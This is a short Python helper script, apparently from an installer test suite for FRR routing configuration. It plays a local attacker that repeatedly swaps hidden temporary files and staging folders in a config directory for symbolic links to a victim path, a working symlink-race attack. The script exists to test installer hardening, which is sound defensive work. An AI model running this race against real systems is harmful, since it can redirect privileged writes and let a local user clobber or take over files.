#!/usr/bin/env python3
"""The local attacker of NamespaceTests/LocalAttackerInstallTests: run as a
member of group frr, it loops over the routing config folder and replaces
every hidden entry (an installer's temporary file or staging folder) with
a symbolic link to VICTIM, as fast as it can. A folder is renamed away
first (a file cannot be renamed over a folder). Prints "ready" once it
has started and, on SIGTERM, the number of names it replaced.

  swap-for-symlinks.py DIR VICTIM
"""
import os
import signal
import sys

directory, victim = sys.argv[1], sys.argv[2]
swaps = 0
counter = 0


def stop(*_):
    print(f"swaps {swaps}", flush=True)
    sys.exit(0)


signal.signal(signal.SIGTERM, stop)
print("ready", flush=True)
while True:
    try:
        names = os.listdir(directory)
    except OSError:
        continue
    for name in names:
        path = os.path.join(directory, name)
        if not name.startswith(".") or os.path.islink(path):
            continue
        counter += 1
        link = os.path.join(directory, f"attacker-link-{counter}")
        try:
            os.symlink(victim, link)
            if os.path.isdir(path):
                os.rename(path, os.path.join(directory, f"attacker-moved-{counter}"))
            os.rename(link, path)
            swaps += 1
        except OSError:
            try:
                os.unlink(link)
            except OSError:
                pass
